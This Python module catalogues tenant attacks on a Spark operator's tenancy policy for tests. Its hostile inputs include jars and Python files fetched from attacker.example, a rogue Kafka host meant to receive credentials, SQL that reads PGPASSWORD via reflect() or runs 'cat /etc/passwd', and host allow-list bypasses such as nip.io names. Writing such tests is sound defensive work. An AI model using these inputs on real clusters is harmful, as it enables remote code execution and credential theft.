"""What a tenant tries against the tenancy policy, and where each attempt is refused.

One catalogue for the admission test (the chart's ValidatingAdmissionPolicy in
the real API server), the operator test (Stalled before any job) and the table
in docs/security.md.
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass
from typing import Any

G, V, P = "derivedviews.io", "v1alpha1", "derivedviews"

BASE: dict[str, Any] = {
    "apiVersion": f"{G}/{V}", "kind": "DerivedView", "metadata": {"name": "orders"},
    "spec": {
        "source": {"kafka": {"bootstrapServers": "127.0.0.1:9092"}, "topics": ["orders"],
                   "format": "json", "schema": "order_id STRING, amount DOUBLE"},
        "transform": {"sql": "SELECT order_id, amount FROM events"},
        "sink": {"postgres": {"secretRef": {"name": "db"}, "table": "orders"},
                 "primaryKey": ["order_id"]},
        "spark": {"sparkConf": {"spark.sql.shuffle.partitions": "8"}},
    },
}


@dataclass(frozen=True)
class Attempt:
    what: str
    spark: dict[str, Any] | None = None
    """Merged into spec.spark."""
    transform: dict[str, Any] | None = None
    """Replaces spec.transform."""
    source: dict[str, Any] | None = None
    """Merged into spec.source (one level deep)."""
    expected: str = ""
    """A part of the refusal (the API server's or the operator's message)."""

    def body(self, name: str, namespace: str | None = None) -> dict[str, Any]:
        """The view; `{namespace}` in the attempt's source stands for `namespace`."""
        body = copy.deepcopy(BASE)
        body["metadata"]["name"] = name
        if self.spark is not None:
            body["spec"]["spark"] = {**body["spec"]["spark"], **self.spark}
        if self.transform is not None:
            body["spec"]["transform"] = self.transform
        if self.source is not None:
            source = copy.deepcopy(self.source)
            if namespace is not None:
                source = json.loads(json.dumps(source).replace("{namespace}", namespace))
            body["spec"]["source"] = {**body["spec"]["source"], **source}
        return body


def _conf(key: str, value: str) -> dict[str, Any]:
    return {"sparkConf": {key: value}}


PY = {"python": {"function": "evil:run", "pyFiles": ["https://attacker.example/evil.py"]}}

ADMISSION: list[Attempt] = [
    Attempt("an image of the author's", {"image": "attacker/spark:latest"},
            expected="spec.spark.image attacker/spark:latest: refused by the tenancy policy "
                     "(chart value tenancy.images)"),
    Attempt("an entry point of the author's",
            {"mainApplicationFile": "s3a://attacker/job.py"},
            expected="spec.spark.mainApplicationFile s3a://attacker/job.py: refused"),
    Attempt("a driver ServiceAccount of the author's", {"serviceAccount": "namespace-admin"},
            expected="spec.spark.serviceAccount: refused by the tenancy policy (chart value "
                     "tenancy.serviceAccountOverride)"),
    Attempt("a hostPath volume through sparkConf",
            _conf("spark.kubernetes.driver.volumes.hostPath.root.mount.path", "/host"),
            expected="spec.spark.sparkConf key spark.kubernetes.driver.volumes.hostPath.root."
                     "mount.path: refused"),
    Attempt("a pod template through sparkConf",
            _conf("spark.kubernetes.driver.podTemplateFile", "s3a://attacker/pod.yaml"),
            expected="spark.kubernetes.driver.podTemplateFile: refused"),
    Attempt("a Java agent through sparkConf",
            _conf("spark.driver.extraJavaOptions", "-javaagent:/tmp/a.jar"),
            expected="spark.driver.extraJavaOptions: refused"),
    Attempt("jars from anywhere through sparkConf",
            _conf("spark.jars", "https://attacker.example/a.jar"),
            expected="spark.jars: refused"),
    Attempt("a SQL extension class through sparkConf",
            _conf("spark.sql.extensions", "evil.Extension"),
            expected="spark.sql.extensions: refused"),
    Attempt("a query listener class in an allowed prefix",
            _conf("spark.sql.streaming.streamingQueryListeners", "evil.Listener"),
            expected="spark.sql.streaming.streamingQueryListeners: refused"),
    Attempt("Hadoop credentials providers through sparkConf",
            _conf("spark.hadoop.fs.s3a.aws.credentials.provider", "evil.Provider"),
            expected="spark.hadoop.fs.s3a.aws.credentials.provider: refused"),
    Attempt("a servlet filter class for the Spark UI",
            _conf("spark.ui.filters", "evil.Filter"), expected="spark.ui.filters: refused"),
    Attempt("event logs (with the job's settings) written where the author says",
            _conf("spark.eventLog.dir", "s3a://attacker/logs"),
            expected="spark.eventLog.dir: refused"),
    Attempt("a Python transform", transform=PY,
            expected="transform.python: refused by the tenancy policy (chart value "
                     "tenancy.python.enabled)"),
    Attempt("a Kafka cluster of the author's (the Kafka Secret's credentials go there)",
            source={"kafka": {"bootstrapServers": "kafka.attacker.example:9092"}},
            expected="spec.source.kafka.bootstrapServers kafka.attacker.example:9092 is not a "
                     "Kafka cluster the platform lists"),
    Attempt("a listed cluster beside one of the author's",
            source={"kafka": {"bootstrapServers": "127.0.0.1:9092,kafka.attacker.example:9092"}},
            expected="(chart value tenancy.kafka.clusters)"),
    Attempt("a loopback prefix hiding the author's host (`127.0.0.1:1@host:9092`)",
            source={"kafka": {"bootstrapServers": "127.0.0.1:1@kafka.attacker.example:9092"}},
            expected="is not a Kafka cluster the platform lists"),
    Attempt("a dead-letter topic outside the platform's patterns (another team's topic)",
            source={"badRecords": {"policy": "deadLetter", "deadLetterTopic": "payments"}},
            expected="spec.source.badRecords.deadLetterTopic payments: refused by the tenancy "
                     "policy (chart value tenancy.kafka.deadLetterTopics)"),
    Attempt("a checkpoint base of the author's (the checkpoint store's keys go there)",
            {"checkpointBase": "s3a://attacker-bucket/ck"},
            expected="spec.spark.checkpointBase s3a://attacker-bucket/ck: refused by the "
                     "tenancy policy (chart value tenancy.checkpoints.authorOverride)"),
    Attempt("`${env:X}` substitution in SQL turned back on through sparkConf",
            _conf("spark.sql.variable.substitute", "true"),
            expected="spec.spark.sparkConf key spark.sql.variable.substitute: refused"),
    Attempt("a commit protocol class under spark.sql.streaming (once an allowed prefix)",
            _conf("spark.sql.streaming.commitProtocolClass", "org.evil.CommitProtocol"),
            expected="spec.spark.sparkConf key spark.sql.streaming.commitProtocolClass: refused "
                     "by the tenancy policy (chart value tenancy.sparkConf.allow)"),
    Attempt("a cost evaluator class under spark.sql.adaptive (once an allowed prefix)",
            _conf("spark.sql.adaptive.customCostEvaluatorClass", "org.evil.Evaluator"),
            expected="spec.spark.sparkConf key spark.sql.adaptive.customCostEvaluatorClass: "
                     "refused"),
    Attempt("a map status codec named by its class (the driver loads it)",
            _conf("spark.shuffle.mapStatus.compression.codec", "org.evil.Codec"),
            expected="spec.spark.sparkConf key spark.shuffle.mapStatus.compression.codec takes "
                     "one of lz4, lzf, snappy, zstd: refused by the tenancy policy (chart value "
                     "tenancy.sparkConf.allow); give such a value"),
    Attempt("a state store codec named by its class",
            _conf("spark.sql.streaming.stateStore.compression.codec", "org.evil.Codec"),
            expected="spec.spark.sparkConf key spark.sql.streaming.stateStore.compression.codec "
                     "takes one of lz4, lzf, snappy, zstd: refused"),
    Attempt("a path where a size goes",
            _conf("spark.sql.files.maxPartitionBytes", "file:///etc/passwd"),
            expected="spec.spark.sparkConf key spark.sql.files.maxPartitionBytes takes a size: "
                     "a whole number with an optional unit b, k, m, g, t or p (e.g. 64m), or "
                     "-1: refused"),
    Attempt("`${env:X}` in a codec's value (the secret in the driver's log)",
            _conf("spark.io.compression.codec", "org.evil.${env:PGPASSWORD}"),
            expected="spec.spark.sparkConf key spark.io.compression.codec: `${` asks Spark to "
                     "substitute a variable into the value"),
    Attempt("`${system:X}` in an allowed key's value",
            _conf("spark.sql.session.timeZone", "${system:user.name}"),
            expected="spec.spark.sparkConf key spark.sql.session.timeZone: `${` asks Spark to "
                     "substitute a variable into the value (`${env:X}` and `${system:X}` would "
                     "put the environment and the JVM properties of the job there) and no value "
                     "may hold one: remove it"),
    Attempt("dead letters into another namespace's (`dlq.other-namespace.x`)",
            source={"badRecords": {"policy": "deadLetter",
                                   "deadLetterTopic": "dlq.other-namespace.x"}},
            expected="spec.source.badRecords.deadLetterTopic dlq.other-namespace.x: refused by "
                     "the tenancy policy (chart value tenancy.kafka.deadLetterTopics); name a "
                     "topic matching dlq."),
    Attempt("dead letters to a topic every namespace once shared (`dlq.orders`)",
            source={"badRecords": {"policy": "deadLetter", "deadLetterTopic": "dlq.orders"}},
            expected="spec.source.badRecords.deadLetterTopic dlq.orders: refused"),
    Attempt("a name that reads as loopback's address (`127.0.0.1.nip.io`)",
            source={"kafka": {"bootstrapServers": "127.0.0.1.nip.io:9092"}},
            expected="spec.source.kafka.bootstrapServers 127.0.0.1.nip.io:9092 is not a Kafka "
                     "cluster the platform lists"),
    Attempt("loopback in the short form resolvers read as an address (`127.1`)",
            source={"kafka": {"bootstrapServers": "127.1:9092"}},
            expected="spec.source.kafka.bootstrapServers 127.1:9092 is not a Kafka cluster"),
]
"""Refused by the ValidatingAdmissionPolicy at apply time (and by the operator again)."""

ALLOWED: list[Attempt] = [
    Attempt("tuning settings", _conf("spark.sql.adaptive.enabled", "true")),
    Attempt("tuning settings of every shape", {"sparkConf": {
        "spark.sql.shuffle.partitions": "16", "spark.sql.session.timeZone": "Europe/Paris",
        "spark.io.compression.codec": "zstd", "spark.sql.autoBroadcastJoinThreshold": "-1",
        "spark.sql.adaptive.advisoryPartitionSizeInBytes": "64MB",
        "spark.executor.heartbeatInterval": "20s", "spark.memory.fraction": "0.7",
        "spark.metrics.namespace": "orders-team"}}),
    Attempt("the platform's own image, named", {"image": "derived-views/spark-job:0.1.0"}),
]

IN_NAMESPACE: list[Attempt] = [
    Attempt("dead letters to the view namespace's own topic (`dlq.<namespace>.orders`)",
            source={"badRecords": {"policy": "deadLetter",
                                   "deadLetterTopic": "dlq.{namespace}.orders"}}),
]
"""Allowed when applied in the namespace `{namespace}` names (Attempt.body's `namespace`)."""

PLATFORM_TENANCY: dict[str, Any] = {"kafka": {
    "clusters": [{"bootstrapServers": ["10.0.0.*:9092", "10.1.0.0/24", "*.kafka.platform.svc:9093",
                                       "[fd00::/64]:9092"]}],
    "deadLetterTopics": ["dlq.{namespace}.*", "shared-dead"]}}
"""A platform's `tenancy` values listing its clusters by IP prefix, CIDR, domain and IPv6
network, and one explicit dead-letter topic besides each namespace's own."""


PLATFORM_REFUSED: list[Attempt] = [
    Attempt("a name that reads as an address of the prefix (`10.0.0.1.nip.io`)",
            source={"kafka": {"bootstrapServers": "10.0.0.1.nip.io:9092"}},
            expected="spec.source.kafka.bootstrapServers 10.0.0.1.nip.io:9092 is not a Kafka "
                     "cluster the platform lists"),
    Attempt("a name of the author's shaped like the prefix (`10.0.0.evil.example`)",
            source={"kafka": {"bootstrapServers": "10.0.0.evil.example:9092"}},
            expected="spec.source.kafka.bootstrapServers 10.0.0.evil.example:9092 is not"),
    Attempt("an address just outside the CIDR (`10.1.1.5`)",
            source={"kafka": {"bootstrapServers": "10.1.1.5:9092"}},
            expected="spec.source.kafka.bootstrapServers 10.1.1.5:9092 is not"),
    Attempt("an address of the prefix on a port not listed",
            source={"kafka": {"bootstrapServers": "10.0.0.7:9093"}},
            expected="spec.source.kafka.bootstrapServers 10.0.0.7:9093 is not"),
    Attempt("a listed domain inside a name of the author's",
            source={"kafka": {"bootstrapServers": "b-0.kafka.platform.svc.attacker.example:9093"}},
            expected="b-0.kafka.platform.svc.attacker.example:9093 is not"),
    Attempt("a listed address as IPv4-mapped IPv6 (`[::ffff:10.0.0.7]`)",
            source={"kafka": {"bootstrapServers": "[::ffff:10.0.0.7]:9092"}},
            expected="spec.source.kafka.bootstrapServers [::ffff:10.0.0.7]:9092 is not"),
    Attempt("an IPv6 address outside the network",
            source={"kafka": {"bootstrapServers": "[fd01::7]:9092"}},
            expected="spec.source.kafka.bootstrapServers [fd01::7]:9092 is not"),
    Attempt("dead letters into another namespace's, beside an explicit topic",
            source={"kafka": {"bootstrapServers": "10.0.0.7:9092"}, "badRecords": {
                "policy": "deadLetter", "deadLetterTopic": "dlq.billing.x"}},
            expected="spec.source.badRecords.deadLetterTopic dlq.billing.x: refused by the "
                     "tenancy policy (chart value tenancy.kafka.deadLetterTopics)"),
]
"""Refused under PLATFORM_TENANCY, by the admission policy and by the operator."""

PLATFORM_ALLOWED: list[Attempt] = [
    Attempt("an address of the IP prefix", source={"kafka": {"bootstrapServers": "10.0.0.7:9092"}}),
    Attempt("addresses of the CIDR, any port",
            source={"kafka": {"bootstrapServers": "10.1.0.5:19092, 10.1.0.255:9092"}}),
    Attempt("brokers under the platform's domain",
            source={"kafka": {"bootstrapServers": "b-0.kafka.platform.svc:9093,"
                                                  "B-1.Kafka.Platform.Svc:9093"}}),
    Attempt("IPv6 addresses of the network, however written",
            source={"kafka": {"bootstrapServers": "[fd00::7]:9092,[FD00:0:0::8]:9092"}}),
    Attempt("the explicit dead-letter topic", source={"kafka": {"bootstrapServers": "10.0.0.7:9092"},
            "badRecords": {"policy": "deadLetter", "deadLetterTopic": "shared-dead"}}),
    Attempt("dead letters to the namespace's own topic",
            source={"kafka": {"bootstrapServers": "10.0.0.7:9092"}, "badRecords": {
                "policy": "deadLetter", "deadLetterTopic": "dlq.{namespace}.orders"}}),
]
"""Allowed under PLATFORM_TENANCY (applied with `namespace` given to Attempt.body)."""

MISSING_SECRET = Attempt("a Secret that does not exist (yet)",
                         expected="not found: a view's jobs use only Secrets that exist")
"""Refused by the operator (Stalled SecretMissing) before any job: the API server cannot see
Secrets; a job created now would use whatever Secret of that name appeared later."""

SQL: list[tuple[str, str, str]] = [
    ("read the sink password from the environment",
     "SELECT order_id, reflect('java.lang.System', 'getenv', 'PGPASSWORD') AS amount FROM events",
     "reflect() reaches the JVM"),
    ("call a Java method", "SELECT order_id, java_method('java.lang.Runtime', 'getRuntime') "
     "AS amount FROM events", "java_method() reaches the JVM"),
    ("run a shell command", "SELECT TRANSFORM(order_id, amount) USING 'cat /etc/passwd' "
     "AS (order_id, amount) FROM events", "TRANSFORM ... USING runs a command"),
    ("load a jar", "ADD JAR https://attacker.example/a.jar", "ADD JAR"),
    ("write files", "INSERT OVERWRITE DIRECTORY '/tmp/out' SELECT * FROM events",
     "INSERT OVERWRITE is a command"),
    ("read a file", "SELECT * FROM csv.`file:///etc/passwd`", "reads a file or a catalog table"),
    ("hide reflect in a lambda", "SELECT order_id, aggregate(array(1), 0D, (acc, x) -> "
     "acc + length(reflect('java.lang.System', 'getenv', 'PGPASSWORD'))) AS amount FROM events",
     "reflect() reaches the JVM"),
]
"""Refused by the operator before any job starts (Stalled PolicyViolation), and by the job."""


def matches(message: str, attempt: Attempt) -> bool:
    return attempt.expected in " ".join(message.split())

